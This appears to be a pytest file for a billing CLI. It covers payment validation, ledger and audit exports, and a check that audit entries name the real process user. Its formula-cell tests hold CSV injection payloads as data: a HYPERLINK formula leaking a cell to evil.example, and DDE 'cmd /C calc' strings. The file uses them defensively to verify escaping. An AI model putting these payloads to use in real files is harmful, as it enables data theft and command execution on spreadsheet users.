"""`packdesk pay` (validation on the command line), `export ledger` with its
filters, formula cells escaped in CSV, and `export audit`, which names the
real user of the process."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest

from store.audit import AUDIT_FIELDS
from store.ledger import LEDGER_FIELDS
from store.payments import record_payment
from store.packages import update_package
from tests.helpers.books import allocate, balance_of, customer, opened, package
from tests.helpers.cli import TODAY, cli, cli_env, cli_process, run_json
from tests.helpers.raw import count, query, who_writes
from store.dialect import is_url

pytestmark = pytest.mark.both_engines

D = Decimal
MAR = lambda day: date(2025, 3, day)  # noqa: E731


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


# --- pay ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "amount, says",
    [
        ("-5", "negative"),
        ("abc", "not a number"),
        ("1.1234567", "7 decimal places"),
        ("0", "more than 0"),
        ("0.000", "more than 0"),
        ("", "required"),
        ("1e3", "not a number"),
    ],
)
def test_pay_with_a_bad_amount_exits_2_and_writes_nothing(db, capsys, amount, says):
    with opened(db):
        customer("Acme Telecom")
    code, out, err = cli(capsys, "pay", "--db", str(db), "--customer", "Acme Telecom", f"--amount={amount}")
    assert code == 2
    assert "--amount" in err and says in err
    assert "Traceback" not in err and out == ""
    assert count(db, "payment") == 0
    with opened(db):
        assert balance_of("Acme Telecom") == 0


def test_pay_for_an_unknown_customer_exits_1(db, capsys):
    with opened(db):
        customer("Acme Telecom")
    code, out, err = cli(capsys, "pay", "--db", str(db), "--customer", "Nobody Ltd", "--amount", "5")
    assert code == 1
    assert "'Nobody Ltd' is not a customer" in err and out == ""
    assert count(db, "payment") == 0


def test_pay_records_a_credit_with_its_date_and_prints_the_balance(db, capsys):
    with opened(db):
        customer("Acme Telecom")
    code, out, err = cli(
        capsys, "pay", "--db", str(db), "--customer", "Acme Telecom", "--amount", "12.5",
        "--kind", "credit", "--date", "2025-03-07", "--description", "goodwill",
    )
    assert code == 0, err
    assert "Recorded credit" in out and "12.50 on 2025-03-07" in out and "Balance 12.50 USD" in out
    assert query(db, "SELECT date, amount, kind, description FROM payment") == [("2025-03-07", 12_500_000, "credit", "goodwill")]


# --- export ledger ---------------------------------------------------------------------------------------


def ledger_book(db, capsys) -> None:
    with opened(db):
        acme, blue = customer("Acme Telecom"), customer("Blue Fish Ltd")
        daily = package("Daily number", "1.25", "0.5")
        allocate(acme, daily, MAR(1), auto=True)
        allocate(blue, daily, MAR(1), quantity=2)
    run_json(capsys, db, MAR(4), commit=True)


def test_export_ledger_json_with_filters(db, capsys):
    ledger_book(db, capsys)
    code, out, err = cli(capsys, "export", "ledger", "--db", str(db), "--format", "json")
    assert code == 0, err
    everything = json.loads(out)
    assert len(everything) == 8
    assert [r["date"] for r in everything] == sorted(r["date"] for r in everything)

    code, out, err = cli(
        capsys, "export", "ledger", "--db", str(db), "--format", "json",
        "--customer", "Acme Telecom", "--from", "2025-03-02", "--to", "2025-03-03",
    )
    assert code == 0, err
    rows = json.loads(out)
    assert [(r["date"], r["customer"]) for r in rows] == [("2025-03-02", "Acme Telecom"), ("2025-03-03", "Acme Telecom")]
    first = rows[0]
    assert set(first) == set(LEDGER_FIELDS)
    assert (first["package"], first["kind"], first["quantity"], first["amount"], first["cost"]) == (
        "Daily number", "recurring", "1", "1.25", "0.50",
    )
    assert (first["retail_price"], first["cost_price"], first["auto_decrement"]) == ("1.25", "0.50", "yes")
    assert first["posted_by"] == who_writes(db) and first["run"] == "1" and first["posted_at"]

    code, out, _ = cli(capsys, "export", "ledger", "--db", str(db), "--format", "json", "--customer", "Blue Fish Ltd", "--from", "2025-03-04")
    assert code == 0
    assert [(r["date"], r["quantity"], r["amount"], r["auto_decrement"]) for r in json.loads(out)] == [("2025-03-04", "2", "2.50", "no")]


def test_export_ledger_csv_with_filters(db, capsys):
    ledger_book(db, capsys)
    code, out, err = cli(capsys, "export", "ledger", "--db", str(db), "--to", "2025-03-02")
    assert code == 0, err
    assert out.splitlines()[0] == ",".join(LEDGER_FIELDS)
    rows = csv_rows(out)
    assert sorted((r["date"], r["customer"], r["amount"]) for r in rows) == [
        ("2025-03-01", "Acme Telecom", "1.25"),
        ("2025-03-01", "Blue Fish Ltd", "2.50"),
        ("2025-03-02", "Acme Telecom", "1.25"),
        ("2025-03-02", "Blue Fish Ltd", "2.50"),
    ]
    code, out, _ = cli(capsys, "export", "ledger", "--db", str(db), "--customer", "Blue Fish Ltd", "--from", "2025-03-03")
    assert code == 0
    assert [(r["date"], r["customer"]) for r in csv_rows(out)] == [("2025-03-03", "Blue Fish Ltd"), ("2025-03-04", "Blue Fish Ltd")]

    code, out, err = cli(capsys, "export", "ledger", "--db", str(db), "--customer", "Nobody Ltd")
    assert code == 1 and "'Nobody Ltd' is not a customer" in err and out == ""


def test_export_ledger_refuses_a_to_date_before_the_from_date(db, capsys):
    """As `export usage` and `charges` do: an empty range is a typo, not a report."""
    ledger_book(db, capsys)
    code, out, err = cli(capsys, "export", "ledger", "--db", str(db), "--from", "2025-03-04", "--to", "2025-03-01")
    assert code == 2
    assert "--to 2025-03-01 is before --from 2025-03-04" in err
    assert out == ""


# --- formula cells --------------------------------------------------------------------------------------------

EVIL_CUSTOMER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_PACKAGE = "+cmd|' /C calc'!A0"
AT_CUSTOMER = "@SUM(1+1)*cmd|' /C calc'!A0"
DASH_PACKAGE = "-2+3+cmd|' /C calc'!A0"


def formula_book(db, capsys) -> None:
    with opened(db):
        evil, at = customer(EVIL_CUSTOMER), customer(AT_CUSTOMER)
        plus, dash = package(EVIL_PACKAGE, "1.25"), package(DASH_PACKAGE, "2")
        allocate(evil, plus, MAR(1))
        allocate(at, dash, MAR(1))


def assert_escaped(text: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL_CUSTOMER in cells and "'" + EVIL_PACKAGE in cells
    assert "'" + AT_CUSTOMER in cells and "'" + DASH_PACKAGE in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@")), cell


def test_formula_cells_are_escaped_in_ledger_and_charges_csv(db, capsys):
    formula_book(db, capsys)
    base = ("--db", str(db), "--today", TODAY.isoformat())
    code, simulated, _ = cli(capsys, "run", *base, "--date", "2025-03-02", "--format", "csv")
    assert code == 0
    assert_escaped(simulated)
    code, charges, _ = cli(capsys, "charges", *base, "--from", "2025-03-01", "--to", "2025-03-02", "--format", "csv")
    assert code == 0
    assert_escaped(charges)
    code, posted, _ = cli(capsys, "run", *base, "--date", "2025-03-02", "--format", "csv", "--commit")
    assert code == 0
    assert_escaped(posted)
    code, ledger, _ = cli(capsys, "export", "ledger", *base)
    assert code == 0
    assert_escaped(ledger)
    assert len(csv_rows(ledger)) == 4
    code, audit, _ = cli(capsys, "export", "audit", *base)
    assert code == 0
    assert_escaped(audit)

    # JSON is not a spreadsheet: the names come out exactly as they are.
    code, out, _ = cli(capsys, "export", "ledger", *base, "--format", "json")
    assert {(r["customer"], r["package"]) for r in json.loads(out)} == {(EVIL_CUSTOMER, EVIL_PACKAGE), (AT_CUSTOMER, DASH_PACKAGE)}
    # And --customer finds the customer by its real name.
    code, out, _ = cli(capsys, "export", "ledger", *base, "--format", "json", "--customer", EVIL_CUSTOMER)
    assert code == 0 and len(json.loads(out)) == 2


# --- export audit ---------------------------------------------------------------------------------------------


def test_export_audit_lists_every_change(db, capsys):
    with opened(db):
        daily = package("Daily number", "10")
        update_package(daily.id, daily.version, daily.draft().with_(retail=D("12.5")))
        who = customer("Acme Telecom")
        record_payment(who.id, MAR(5), D("100"))
    total = count(db, "audit")
    assert total > 10

    code, out, err = cli(capsys, "export", "audit", "--db", str(db))
    assert code == 0, err
    assert out.splitlines()[0] == ",".join(AUDIT_FIELDS)
    rows = csv_rows(out)
    assert len(rows) == total
    me = who_writes(db)
    assert {"by": me, "entity": "package", "action": "update", "field": "retail", "old": "10.00", "new": "12.50"}.items() <= next(
        r for r in rows if r["entity"] == "package" and r["action"] == "update"
    ).items()
    assert any(r["entity"] == "payment" and r["field"] == "amount" and r["new"] == "100.00" for r in rows)
    assert any(r["entity"] == "customer" and r["field"] == "name" and r["new"] == "Acme Telecom" for r in rows)

    code, out, _ = cli(capsys, "export", "audit", "--db", str(db), "--format", "json")
    assert code == 0
    assert [(r["entity"], r["field"], r["new"]) for r in json.loads(out)] == [(r["entity"], r["field"], r["new"]) for r in rows]


def test_the_audit_names_the_real_user_of_the_process_not_what_the_environment_says(db):
    import os
    import pwd

    me = who_writes(db)
    assert me != "alice" and (is_url(db) or me == pwd.getpwuid(os.getuid()).pw_name)
    with opened(db):
        customer("Acme Telecom")
    env = cli_env(LOGNAME="alice", USER="alice", LNAME="alice", USERNAME="alice")
    done = cli_process("pay", "--db", str(db), "--customer", "Acme Telecom", "--amount", "5", env=env)
    assert done.returncode == 0, done.stderr
    assert query(db, "SELECT DISTINCT by FROM audit WHERE entity = 'payment'") == [(me,)]
    assert query(db, "SELECT created_by FROM payment") == [(me,)]
    done = cli_process("export", "audit", "--db", str(db), "--format", "json", env=env)
    assert any(r["by"] == me and r["entity"] == "payment" for r in json.loads(done.stdout))
    assert not any(r["by"] == "alice" for r in json.loads(done.stdout))
